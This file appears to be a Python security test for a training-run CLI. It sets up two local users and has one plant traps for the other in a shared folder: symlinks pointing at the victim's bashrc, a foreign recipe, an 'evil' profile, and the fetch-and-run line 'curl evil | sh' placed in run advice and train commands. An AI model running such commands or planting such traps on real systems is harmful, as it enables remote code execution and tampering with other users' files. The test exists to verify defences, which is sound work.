"""Two users of one machine: `python -m tests.cli.other_users FOLDER`, as root, prints what became of each attempt.

One lays traps into a shared folder and holds a run there; the other, whose rights end where the first one's begin,
calls the program on them. Everything is imported, and every command called once, before the process gives up being
root: the sources may lie where nobody else can read.
"""

from __future__ import annotations

import codecs
import fcntl
import json
import os
import sys
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from speedtui.engine import events as e
from speedtui.engine.commands import Stop, encode
from speedtui.engine.log.commands import CommandTail
from speedtui.engine.log.read import read_state
from speedtui.engine.log.run_summary import RunSummaries, status_of
from speedtui.engine.runs import UNKNOWN, RunFolder
from speedtui.engine.session.attached import AttachedSession
from speedtui.tui.cli import COMMANDS, main
from speedtui.tui.terminal.copying import _write
from tests.engine.events_of_a_run import started, step, study, training

ME, THEM = 54321, 54322
Tree = dict[str, tuple[int, int, int, int]]
ADVICE = "curl evil | sh"
OLD, NEW = "20260101-000000", "20260102-000000"
FINISHED = e.RunFinished(t=9.0, outcome="failed", exit_code=1, reason="a reason", next=f"Type: {ADVICE}")
ENDED = e.RunFinished(t=9.0, outcome="failed", exit_code=1, reason="a reason", next="")
"""Of one's own run."""
TOLD = e.Notice(t=8.0, level="error", text="told", hint=f"Type: {ADVICE}")


def become(user: int) -> None:
    os.setgroups([])
    os.setresgid(user, user, user)
    os.setresuid(user, user, user)
    os.umask(0)  # the most careless of all


@contextmanager
def other(user: int, work: Callable[[], None]) -> Iterator[None]:
    """A process of that user which does the work, and lives on until the block is over."""
    ready, tell_ready = os.pipe()
    over, tell_over = os.pipe()
    child = os.fork()
    if not child:
        os.close(tell_over)
        become(user)
        work()
        os.write(tell_ready, b"!")
        os.read(over, 1)
        os._exit(0)
    os.close(over)
    os.close(tell_ready)
    if not os.read(ready, 1):
        raise SystemExit("the other user's process has failed")
    try:
        yield
    finally:
        os.close(tell_over)
        os.waitpid(child, 0)


def lay_run(
    path: Path, mode: int, *events: e.AnyEvent, recipe: str, job: str = "train", advice: str = ADVICE
) -> RunFolder:
    path.mkdir()
    folder = RunFolder(path)
    folder.events.write_bytes(b"".join(map(e.encode, events)))
    settings = f'[model]\nkind = "python"\nrecipe = "{recipe}:build"\n'
    folder.config.write_text(settings)
    (path / "train.toml").write_text(settings)
    order = {"job": job, "started_at": 0.0, "train_command": ["sh", "-c", advice]}
    folder.order.write_text(json.dumps(order))
    (path / "model").mkdir()
    path.chmod(mode)
    return folder


def lay_traps(shared: Path, home: Path) -> None:
    """As the other user: everything that a careful one could be caught by."""
    runs = shared / "runs"
    recipe = shared / "theirs" / "recipe.py"
    recipe.parent.mkdir()
    recipe.write_text(f"open({str(shared / 'executed')!r}, 'w')\n")
    (shared / "theirs" / "speedtui.toml").write_text(f'[model]\nkind = "python"\nrecipe = "{recipe}:build"\n')
    profiles = shared / "theirs" / "speedtui" / "profiles"
    profiles.mkdir(parents=True)
    (profiles / "evil.toml").write_text('description = "x"\n[settings]\n"train.learning_rate" = 9.0\n')
    (profiles.parent / "keys.toml").write_text('[keys]\n"run.pause" = "Z"\n')
    log = (started("train"), training(), step(1), TOLD)
    lay_run(runs / f"{NEW}-train-0001", 0o700, *log, FINISHED, recipe=str(recipe))
    trapped = lay_run(runs / f"{NEW}-train-0002", 0o777, *log, FINISHED, recipe=str(recipe))
    for name in ("commands.jsonl", "copied.txt", "report.html", "report.md", "screen.log", "train.sh", "steps.csv"):
        (trapped.path / name).symlink_to(home / "bashrc")
    for name in ("session.lock", "stall.lock", "owner.lock", "next.toml"):
        (trapped.path / name).symlink_to(home / "made")
    (trapped.path / "csv").symlink_to(home)
    alive = lay_run(runs / f"{NEW}-train-0003", 0o777, *log, recipe=str(recipe))
    alive.worker_lock.touch()
    fcntl.flock(os.open(alive.worker_lock, os.O_RDWR), fcntl.LOCK_EX)
    closed = lay_run(runs / f"{NEW}-train-0005", 0o755, *log, recipe=str(recipe))
    fcntl.flock(os.open(closed.worker_lock, os.O_RDWR | os.O_CREAT, 0o600), fcntl.LOCK_EX)
    lay_run(runs / f"{NEW}-tune-0004", 0o755, started("tune"), study(0), FINISHED, recipe=str(recipe))


def tree(path: Path) -> Tree:
    """All below a folder: owner, mode, size and when it was written."""
    found = {}
    for one in [path, *path.rglob("*")]:
        is_ = one.lstat()
        found[str(one)] = is_.st_uid, is_.st_mode, is_.st_size if not one.is_dir() else 0, is_.st_mtime_ns
    return found


def changed(before: Tree, shared: Path) -> list[str]:
    """What is other than before in all that is not one's own, or new outside of one's own run."""
    after = tree(shared)
    return [path for path in before | after if before.get(path) != after.get(path) and OLD not in path]


def call(*arguments: str) -> dict[str, Any]:
    """What the program says and ends with."""
    kept = [os.dup(1), os.dup(2)]
    files = [os.memfd_create("out"), os.memfd_create("err")]
    sys.stdout.flush()
    for number, file in enumerate(files, 1):
        os.dup2(file, number)
    try:
        main(list(arguments))
        code: object = None
    except SystemExit as end:
        code = end.code
    finally:
        for number, file in enumerate(kept, 1):
            os.dup2(file, number)
            os.close(file)
    texts = []
    for file in files:
        os.lseek(file, 0, os.SEEK_SET)
        with os.fdopen(file, "rb") as written:
            texts.append(written.read().decode())
    return {"code": int(code) if isinstance(code, int) else None, "out": texts[0], "err": texts[1]}


def tried(work: Callable[[], object]) -> str:
    """What a piece of the program answers, or the error that it ends with."""
    try:
        return repr(work())
    except Exception as error:
        return f"{type(error).__name__}: {error}"


def looked_at(folder: RunFolder) -> tuple[int, str, list[str]]:
    """Exit code, status and lines of a session over a run that neither goes on nor is over, as far as can be told."""
    session, lines = AttachedSession(folder), list[str]()

    def heard(line: bytes, _: e.AnyEvent) -> None:
        lines.append(line.decode())
        if UNKNOWN in lines[-1]:
            session.detach()

    code = session.run(heard)
    return int(code), session.snapshot().status.value, lines


def attempts(shared: Path, home: Path, before: Tree) -> dict[str, Any]:
    """As the careful one."""
    runs, theirs = str(shared / "runs"), shared / "theirs"
    where = ("--runs", runs)
    trapped, alive, study_, closed = (
        str(shared / "runs" / f"{NEW}-{name}") for name in ("train-0002", "train-0003", "tune-0004", "train-0005")
    )
    mine = RunFolder(shared / "runs" / f"{OLD}-train-0000")
    recipe = home / "foreign.toml"
    recipe.write_text(f'[model]\nkind = "python"\nrecipe = "{theirs / "recipe.py"}:build"\n')
    recipe.chmod(0o600)
    own = home / "own.toml"
    own.write_text('[model]\narchitecture = { model_type = "llama" }\n[data]\ntrain = "d.jsonl"\ntext = "text"\n')
    own.chmod(0o600)
    (home / "d.jsonl").write_text('{"text": "a"}\n')
    results = {
        "runs": call("runs", *where),
        "report": call("report", *where),
        "attach": call("attach", *where),
        "export": call("export", *where, "--to", "csv"),
        "look: report": call("report", trapped),
        "look: report --json": call("report", trapped, "--json"),
        "look: attach": call("attach", trapped),
        "look: replay": call("replay", trapped, "--speed", "1e9"),
        "look: html": call("report", trapped, "--html", str(home / "page.html")),
        "look: csv": call("export", trapped, "--to", "csv", "--out", str(home / "tables")),
        "unknown: report": call("report", closed),
        "unknown: attach": looked_at(RunFolder(Path(closed))),
        "unknown: list": [
            status_of(one).value for one in RunSummaries(Path(runs)).look() if str(one.folder.path) == closed
        ],
        "act: html": call("report", trapped, "--html"),
        "act: csv": call("export", trapped, "--to", "csv"),
        "act: send": call("send", alive, "stop", "--timeout", "0.1s"),
        "act: resume": call("train", "--resume", trapped),
        "act: resume by name": call("train", *where, "--resume", f"{NEW}-train-0002"),
        "act: stage": call("train", "--from", trapped),
        "act: plan": call("train", "--plan", trapped),
        "act: trial": call("train", "--trial", f"{study_}#0"),
        "act: config": call("tune", "--config", str(theirs / "speedtui.toml")),
        "act: recipe": call("tune", *where, "--config", str(recipe)),
    }
    results["changed"] = changed(before, shared)
    results |= {
        "trust: relative": call("send", alive, "stop", "--trust", os.path.relpath(alive)),
        "trust: another": call("send", alive, "stop", "--trust", trapped),
        "trust: links": call("send", trapped, "stop", "--trust", trapped),
        "trust: send": call("send", alive, "stop", "--timeout", "0.1s", "--trust", alive),
    }
    sent = Path(alive, "commands.jsonl")
    results["sent"] = sent.read_text()
    os.environ["XDG_CONFIG_HOME"] = str(theirs)
    results["act: profile"] = call("train", "--config", str(own), "--profile", "evil")
    results["act: keys"] = call("keys")
    session = AttachedSession(RunFolder(Path(alive)))
    results["act: kill"] = tried(session.kill)
    results["act: command"] = tried(lambda: session.send(Stop()))
    results["copied"] = [str(_write("copied", Path(path))) for path in (trapped, mine.path)]
    results["advice"] = read_state(Path(trapped, "events.jsonl")).next
    results["obeyed"] = obeyed(mine, home)
    mine.path.chmod(0o777)
    results["act: own, but open to all"] = call("train", "--resume", str(mine.path))
    mine.path.chmod(0o700)
    return results


def obeyed(mine: RunFolder, home: Path) -> list[str]:
    """What a worker of one's own makes of a command file in other hands: by mode, then by link, then its own again."""
    file, tail, said = mine.commands, CommandTail(mine.commands), []
    file.write_bytes(encode(Stop()))
    file.chmod(0o666)
    said += [str(tail.read()), str(tail.read())]
    file.chmod(0o600)
    said += [str(tail.read())]
    with file.open("ab") as more:
        more.write(encode(Stop(id="own")))
    said += [str(tail.read())]
    file.unlink()
    file.symlink_to(home / "bashrc")
    said += [str(tail.read())]
    file.unlink()
    file.write_bytes(encode(Stop(id="again")))
    file.chmod(0o600)
    return [*said, str(tail.read())]


def warm(folder: Path) -> None:
    """Has every module imported that a command needs."""
    codecs.lookup("utf-8-sig")
    runs = folder / "warm"
    runs.mkdir()
    lay_run(runs / OLD, 0o700, started("train"), training(), step(1), FINISHED, recipe="/nowhere.py", job="tune")
    for arguments in (
        ["runs"], ["report"], ["report", "--html"], ["export", "--to", "csv"], ["attach"], ["replay", OLD],
        ["send", OLD, "stop"], ["train", "--resume", OLD], ["train", "--config", "/nowhere"], ["keys"],
    ):  # fmt: skip
        call(*arguments, "--runs", str(runs))
    for name in COMMANDS:
        call(name, "--help")


def walk(folder: Path) -> dict[str, Any]:
    shared, home = folder / "shared", folder / "home"
    warm(folder)
    for path, mode, user in ((shared, 0o1777, 0), (shared / "runs", 0o1777, 0), (home, 0o755, ME)):
        path.mkdir()
        path.chmod(mode)
        os.chown(path, user, user)
    os.environ |= {"HOME": str(home), "TMPDIR": str(home)}
    tempfile.tempdir = None
    with other(THEM, lambda: lay_traps(shared, home)):
        become(ME)
        (home / "bashrc").write_text("mine")
        log = (started("train"), training(), step(1))
        own = lay_run(shared / "runs" / f"{OLD}-train-0000", 0o700, *log, ENDED, recipe="/nowhere.py", advice="")
        for path in own.path.iterdir():
            path.chmod(0o700 if path.is_dir() else 0o600)
        before = tree(shared)
        results = attempts(shared, home, before)
        results["home"] = sorted(path.name for path in home.iterdir())
        results["bashrc"] = (home / "bashrc").read_text()
        results["executed"] = (shared / "executed").exists()
    return results


if __name__ == "__main__":
    print(json.dumps(walk(Path(sys.argv[1]))))
